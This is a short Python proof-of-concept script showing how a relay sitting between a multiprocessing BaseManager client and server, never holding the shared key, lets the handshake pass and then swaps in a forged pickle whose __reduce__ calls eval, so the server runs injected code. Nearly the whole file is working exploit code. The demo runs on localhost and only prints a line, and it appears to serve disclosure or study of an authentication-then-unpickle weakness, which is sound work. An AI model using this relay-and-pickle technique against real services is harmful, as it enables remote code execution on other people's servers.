"""A relay that never had the key makes the server run its code."""

import pickle
import threading
from contextlib import suppress
from multiprocessing.connection import Client, Listener, wait
from multiprocessing.managers import BaseManager

KEY, LOCAL = b"a secret of the shop", ("127.0.0.1", 0)
CODE = """(
    print("run in", __import__("multiprocessing").current_process().name),
    (None, "dummy", (), {}),  # the call that the client has made
)[1]"""


class Forged:
    def __reduce__(self) -> tuple:
        return eval, (CODE,)  # to unpickle me, call eval(CODE)


def relay(door: Listener, goal: tuple[str, int]) -> None:
    with suppress(EOFError), door.accept() as client, Client(goal) as desk:
        ways = {client: desk, desk: client}
        while ready := wait(ways, timeout=5):
            for end in ready:
                message = end.recv_bytes()
                if b"dummy" in message:  # the handshake is over
                    message = pickle.dumps(Forged())
                ways[end].send_bytes(message)


def main() -> None:
    with BaseManager(LOCAL, KEY) as desk, Listener(LOCAL) as door:
        thief = threading.Thread(target=relay, args=(door, desk.address))
        thief.start()
        BaseManager(door.address, KEY).connect()
        print("the client has connected")
        thief.join(timeout=5)


if __name__ == "__main__":
    main()
